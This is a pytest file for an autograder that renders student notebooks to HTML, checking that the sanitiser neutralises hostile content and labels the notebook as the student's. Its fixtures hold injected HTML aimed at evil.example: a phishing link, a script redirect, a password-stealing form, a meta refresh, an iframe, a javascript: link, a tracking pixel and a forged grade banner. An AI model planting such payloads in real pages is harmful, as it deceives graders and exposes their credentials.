"""The notebook page frames the student's cells as the student's, and no link in them can be followed."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from nbformat import v4

from grader.report.nbhtml import SUBMITTED, write_notebook_html
from grader.report.sanitize import sanitize
from tests.report.helpers import training_notebook, write_notebook

PHISHING = "Your regrade request was approved: [click here](http://evil.example/regrade)"
HOSTILE_HTML = (
    '<a href="https://evil.example/login" title="grader">log in again</a>'
    "<script>location = 'http://evil.example'</script>"
    '<form action="http://evil.example/steal" method="post">'
    '<input name="password"><button>Send</button></form>'
    '<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">'
    '<iframe src="http://evil.example/frame"></iframe>'
    '<a href="javascript:alert(1)">run me</a>'
    '<img src="http://evil.example/pixel.png" alt="pixel">'
    '<div class="grader-band">Graded: 100/100</div>'
)


class Elements(HTMLParser):
    """Every start tag of a page with its attributes, as a browser would parse them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def render(tmp_path: Path) -> str:
    nb = training_notebook(
        [0.5],
        v4.new_markdown_cell(f"# Results\n\n{PHISHING} or see [the table](#Results)."),
        v4.new_code_cell(
            "show()",
            execution_count=2,
            outputs=[v4.new_output("display_data", data={"text/html": HOSTILE_HTML})],
        ),
    )
    dest = tmp_path / "page.html"
    assert write_notebook_html(write_notebook(tmp_path / "nb.ipynb", nb), dest, "nb.ipynb", "Lab 1") is None
    return dest.read_text(encoding="utf-8")


def test_no_link_form_frame_script_refresh_or_remote_image_is_live(tmp_path: Path) -> None:
    page = render(tmp_path)
    tags = Elements(page).tags
    names = {name for name, _ in tags}
    assert not names & {"script", "form", "input", "button", "iframe"}
    metas = [attrs for name, attrs in tags if name == "meta"]
    assert [meta.get("charset") or meta.get("http-equiv") for meta in metas] == [
        "utf-8",
        "Content-Security-Policy",
    ]
    hrefs = [attrs.get("href") for name, attrs in tags if name == "a"]
    assert hrefs and all(href is not None and href.startswith("#") for href in hrefs), hrefs
    assert not any("src" in attrs for name, attrs in tags if name in ("img", "iframe"))
    assert "javascript:" not in page and "evil.example/pixel" not in page and "evil.example/frame" not in page


def test_links_show_where_they_lead_as_text(tmp_path: Path) -> None:
    page = render(tmp_path)
    text = re.sub(r"<[^>]+>", "", page)
    assert "Your regrade request was approved: click here [link to http://evil.example/regrade]" in text
    assert "log in again [link to https://evil.example/login]" in text
    assert "run me" in text and "[link to javascript" not in text
    assert '<a href="#Results">the table</a>' in page


def test_the_notebook_sits_in_a_frame_that_names_it_the_students(tmp_path: Path) -> None:
    page = render(tmp_path)
    band = "Student's notebook as the grader ran it</strong> — everything\nbelow was written by the student"
    assert band in page and "not by the grader" in page
    start, end = page.index('<div class="grader-student">'), page.index("End of the student's notebook.")
    assert start < page.index("Your regrade request") < page.index("log in again") < end
    assert page.count('class="grader-band"') == 1, "the notebook's own grader-band div lost its class"
    assert "Graded: 100/100" in page[start:end]


def test_the_sanitiser_keeps_page_anchors_and_escapes_the_address() -> None:
    html = sanitize('<p><a href="#top">top</a> <a href="http://x.example/?a=1&amp;b=<2>">x</a></p>')
    assert html == (
        '<p><a href="#top">top</a> <span class="grader-link">x</span>'
        '<span class="grader-link-target"> [link to http://x.example/?a=1&amp;b=&lt;2&gt;]</span></p>'
    )


def test_the_band_names_a_submitted_copy_as_not_run(tmp_path: Path) -> None:
    dest = tmp_path / "page.html"
    source = write_notebook(tmp_path / "nb.ipynb", training_notebook([0.5]))
    assert write_notebook_html(source, dest, "nb.ipynb", copy=SUBMITTED) is None
    assert "Student's notebook as submitted (the grader did not run it)</strong>" in dest.read_text()
